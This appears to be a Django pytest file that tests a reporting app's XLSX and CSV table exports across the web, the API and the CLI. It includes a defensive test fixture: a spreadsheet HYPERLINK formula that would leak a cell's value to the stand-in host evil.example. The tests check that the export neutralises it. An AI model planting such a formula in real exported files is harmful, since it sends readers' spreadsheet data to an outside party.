"""The report's tables as an XLSX workbook: the same tables as the CSV, typed, on the web, the API and the CLI."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.http.response import HttpResponseBase
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.api.helpers import ApiClient
from tests.conftest import make_member, member_client, staff_client
from tests.meetings.factories import AttendanceFactory, SessionFactory, london
from tests.opportunities.factories import OpportunityFactory
from tests.reports.test_annual_report import YEAR, involve, write_everything
from withus.accounts.models import Organisation, User
from withus.core import spreadsheets
from withus.people.models import Person, Tag
from withus.reports import sections, services
from withus.reports.models import Version

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
XLSX = spreadsheets.XLSX_CONTENT_TYPE


def hostile_section(organisation: Organisation, year: int) -> dict[str, Any]:
    return {
        "facts": [],
        "held_back": "fewer than 5",
        "tables": [
            {
                "key": "hostile",
                "title": "people by place: 2026/27 [all]",
                "columns": ["Place", "People", "Per 10,000"],
                "rows": [[HOSTILE, 7, 1.5], ["Quiet corner", None, None]],
            }
        ],
    }


@pytest.fixture
def published(org_a: Organisation, coordinator_a: User, monkeypatch: pytest.MonkeyPatch) -> Version:
    """Version 1 of the 2026 report: 6 people consulted, 2 co-producing (held back), and a table with a formula."""
    monkeypatch.setitem(sections.SECTIONS, "hostile", sections.Section("hostile", "Hostile", hostile_section, order=99))
    involve(org_a, 6)
    involve(org_a, 2, level=5)
    report = services.draft(actor=coordinator_a, organisation=org_a, year=YEAR)
    write_everything(coordinator_a, report)
    return services.publish(actor=coordinator_a, report=report)


def body(response: HttpResponseBase) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
    return response.content  # type: ignore[attr-defined,no-any-return]


def workbook_of(response: HttpResponseBase) -> Workbook:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(body(response)))


def csv_tables(text: str) -> list[tuple[list[str], list[list[str]]]]:
    """The CSV's tables: (columns, rows), in order; each block is a heading line, the columns, rows, a blank line."""
    blocks: list[tuple[list[str], list[list[str]]]] = []
    lines = list(csv.reader(io.StringIO(text, newline="")))
    while lines:
        _heading, columns, *rest = lines
        end = rest.index([])
        blocks.append((columns, rest[:end]))
        lines = rest[end + 1 :]
    return blocks


def as_in_csv(value: Any, written: str) -> bool:
    """A workbook cell holds what the CSV wrote: the same text (less the CSV's formula guard), number or blank."""
    if value is None:
        return written == ""
    if isinstance(value, int | float):
        return written != "" and float(written) == value
    return written == spreadsheets.safe_cell(value)


def sheet_of(book: Workbook, table_title: str) -> Any:
    """The sheet holding the table, found through the contents sheet (a long title is cut to fit a sheet's name)."""
    (name,) = [row[0] for row in book["Contents"].iter_rows(min_row=2, values_only=True) if row[2] == table_title]
    return book[name]


def public_xlsx(org: Organisation, number: int = 1, client: Client | None = None, **headers: str) -> HttpResponseBase:
    return (client or Client()).get(reverse("reports:public_xlsx", args=[org.slug, YEAR, number]), **headers)


def test_the_workbook_holds_the_csv_tables_typed_one_sheet_each(org_a: Organisation, published: Version) -> None:
    response = public_xlsx(org_a)
    assert response["Content-Disposition"] == f'attachment; filename="annual-report-{org_a.slug}-{YEAR}-v1-en.xlsx"'
    book = workbook_of(response)
    tables = [t for s in published.snapshot["languages"]["en"]["sections"] for t in s["data"].get("tables", [])]
    assert book.sheetnames[0] == "Contents"
    assert len(book.sheetnames) == 1 + len(tables)
    assert "Activity by pathway level" in book.sheetnames
    assert "People by place 2026-27 all" in book.sheetnames
    csv_text = Client().get(reverse("reports:public_csv", args=[org_a.slug, YEAR, 1])).content.decode()
    in_csv = csv_tables(csv_text)
    assert len(in_csv) == len(tables)
    for sheet, table, (columns, rows) in zip(book.worksheets[1:], tables, in_csv, strict=True):
        assert sheet.freeze_panes == "A2"
        header, *cells = sheet.iter_rows()
        assert [c.value for c in header] == table["columns"] == columns
        assert all(c.font.b for c in header)
        assert len(cells) == len(rows)
        for row, written in zip(cells, rows, strict=True):
            values = [c.value for c in row] + [None] * (len(written) - len(row))
            assert all(as_in_csv(v, w) for v, w in zip(values, written, strict=True)), (values, written)

    activity = {row[0].value: row for row in book["Activity by pathway level"].iter_rows(min_row=2)}
    consulted, producing = activity["Consulted"], activity["Co-producing"]
    assert [(c.value, c.data_type) for c in consulted[1:]] == [(6, "n"), (6, "n")]
    # Held back as in the CSV ("Co-producing,,"): empty cells, which the contents sheet explains.
    assert [c.value for c in producing[1:]] == [None, None]
    assert "Co-producing,,\r\n" in csv_text
    header, *contents = book["Contents"].iter_rows(values_only=True)
    assert header == ("Sheet", "Section", "Table", "An empty count means", "Sources")
    (row,) = [r for r in contents if r[0] == "Activity by pathway level"]
    assert row[1:4] == ("Activity by pathway level", "activity by pathway level", "fewer than 5")


def test_a_formula_in_the_data_is_text_in_the_workbook_and_escaped_in_the_csv(
    org_a: Organisation, published: Version
) -> None:
    sheet = workbook_of(public_xlsx(org_a))["People by place 2026-27 all"]
    cell, people, rate = sheet[2]
    assert (cell.value, cell.data_type) == (HOSTILE, "s")
    assert (people.value, rate.value) == (7, 1.5)
    csv_text = Client().get(reverse("reports:public_csv", args=[org_a.slug, YEAR, 1])).content.decode()
    (row,) = [r for r in csv.reader(io.StringIO(csv_text)) if r and "HYPERLINK" in r[0]]
    assert row == ["'" + HOSTILE, "7", "1.5"]


def test_a_welsh_reader_gets_the_welsh_version(org_a: Organisation, published: Version) -> None:
    response = public_xlsx(org_a, HTTP_ACCEPT_LANGUAGE="cy")
    assert response["Content-Disposition"].endswith('-v1-cy.xlsx"')
    contents = list(workbook_of(response).worksheets[0].iter_rows(min_row=2, values_only=True))
    welsh = published.snapshot["languages"]["cy"]["sections"]
    assert [row[1] for row in contents] == [s["title"] for s in welsh for _t in s["data"].get("tables", [])]


def test_the_report_page_links_the_workbook_beside_the_csv(org_a: Organisation, published: Version) -> None:
    html = Client().get(reverse("reports:public", args=[org_a.slug, YEAR])).content.decode()
    csv_link = reverse("reports:public_csv", args=[org_a.slug, YEAR, 1])
    xlsx_link = reverse("reports:public_xlsx", args=[org_a.slug, YEAR, 1])
    assert f'href="{csv_link}"' in html and f'href="{xlsx_link}"' in html
    assert "Its tables (Excel spreadsheet)" in html


def test_a_draft_has_no_workbook_for_anyone(org_a: Organisation, coordinator_a: User, member_a: Person) -> None:
    report = services.draft(actor=coordinator_a, organisation=org_a, year=YEAR)
    services.invite(actor=coordinator_a, report=report, person=member_a)
    write_everything(coordinator_a, report)
    assert public_xlsx(org_a).status_code == 404
    assert public_xlsx(org_a, client=member_client(member_a)).status_code == 404
    assert public_xlsx(org_a, client=staff_client(coordinator_a)).status_code == 404
    api = ApiClient(None)
    assert api.get(f"/api/reports/annual/{org_a.slug}/{YEAR}/tables", {"format": "xlsx"}).status_code == 404
    with pytest.raises(CommandError, match="No version of the 2026 report is published"):
        call_command("report", "tables", "--organisation", org_a.slug, "--year", str(YEAR), "--output", "/dev/null")


def test_only_published_versions_have_a_workbook(org_a: Organisation, published: Version) -> None:
    assert public_xlsx(org_a, number=2).status_code == 404
    assert ApiClient(None).get(f"/api/reports/annual/{org_a.slug}/{YEAR}/tables", {"version": 2}).status_code == 404


def test_presence_downloads_as_a_workbook_for_staff_only(
    org_a: Organisation, coordinator_a: User, member_a: Person
) -> None:
    topic = Tag.objects.create(kind=Tag.Kind.AREA, slug="evil", name=HOSTILE)
    opportunity = OpportunityFactory(organisation=org_a, level=2)
    opportunity.tags.add(topic)
    session = SessionFactory(organisation=org_a, opportunity=opportunity, starts_at=london(2026, 6, 12, 10, 30))
    for _n in range(6):
        AttendanceFactory(session=session, person=make_member(org_a))
    involve(org_a, 2, level=5)
    query = {"year": YEAR, "format": "xlsx"}
    response = staff_client(coordinator_a).get(reverse("reports:presence"), query)
    assert response["Content-Disposition"] == f'attachment; filename="presence-{org_a.slug}-{YEAR}.xlsx"'
    book = workbook_of(response)
    assert book.sheetnames[0] == "Contents"
    topics = sheet_of(book, "people involved by topic or service")
    assert topics.title == "People involved by topic or ser"
    assert topics.freeze_panes == "A2"
    cell, people = topics[2]
    assert (cell.value, cell.data_type, people.value) == (HOSTILE, "s", 6)
    by_level = sheet_of(book, "people involved by pathway level")
    levels = {row[0]: row[1:] for row in by_level.iter_rows(min_row=2, values_only=True)}
    assert levels["Co-producing"] == (None, None)
    assert Client().get(reverse("reports:presence"), query).status_code == 302
    assert member_client(member_a).get(reverse("reports:presence"), query).status_code in (302, 403)
    page = staff_client(coordinator_a).get(reverse("reports:presence"), {"year": YEAR}).content.decode()
    assert f"?year={YEAR}&amp;format=xlsx" in page


def test_anyone_downloads_the_tables_through_the_api(org_a: Organisation, published: Version) -> None:
    api = ApiClient(None)
    path = f"/api/reports/annual/{org_a.slug}/{YEAR}/tables"
    book = workbook_of(api.get(path, {"format": "xlsx"}))
    assert book.sheetnames == workbook_of(public_xlsx(org_a)).sheetnames
    welsh = api.get(path, {"format": "xlsx", "language": "cy", "version": 1})
    assert welsh["Content-Disposition"].endswith('-v1-cy.xlsx"')
    contents = list(workbook_of(welsh).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert contents[0][1] == published.snapshot["languages"]["cy"]["sections"][0]["title"]
    as_csv = api.get(path, {"format": "csv"})
    assert as_csv["Content-Type"] == "text/csv; charset=utf-8"
    web_csv = Client().get(reverse("reports:public_csv", args=[org_a.slug, YEAR, 1])).content
    assert body(as_csv) == web_csv
    assert api.get(path, {"format": "pdf"}).status_code == 422


def test_the_openapi_document_describes_both_files() -> None:
    document = Client().get("/api/openapi.json").json()
    operation = document["paths"]["/api/reports/annual/{slug}/{year}/tables"]["get"]
    assert set(operation["responses"]["200"]["content"]) == {"text/csv", XLSX}
    assert {p["name"] for p in operation["parameters"]} == {"slug", "year", "version", "language", "format"}


def test_the_cli_writes_the_workbook_or_the_csv(org_a: Organisation, published: Version, tmp_path: Path) -> None:
    out = io.StringIO()
    target = tmp_path / "tables.xlsx"
    call_command(
        "report", "tables", "--organisation", org_a.slug, "--year", str(YEAR), "--output", str(target), stdout=out
    )
    assert f"version 1 are written to {target}" in out.getvalue()
    book = load_workbook(target)
    assert book.sheetnames == workbook_of(public_xlsx(org_a)).sheetnames
    assert book["Activity by pathway level"].freeze_panes == "A2"
    welsh = tmp_path / "tables.csv"
    call_command(
        "report",
        "tables",
        "--organisation",
        org_a.slug,
        "--year",
        str(YEAR),
        "--version",
        "1",
        "--language",
        "cy",
        "--format",
        "csv",
        "--output",
        str(welsh),
        stdout=out,
    )
    in_welsh = Client().get(reverse("reports:public_csv", args=[org_a.slug, YEAR, 1]), HTTP_ACCEPT_LANGUAGE="cy")
    assert in_welsh["Content-Disposition"].endswith('-v1-cy.csv"')
    assert welsh.read_bytes() == in_welsh.content
    with pytest.raises(CommandError, match="Version 2 of the 2026 report is not published"):
        call_command(
            "report", "tables", "--organisation", org_a.slug, "--year", str(YEAR), "--version", "2", "--output", "x"
        )
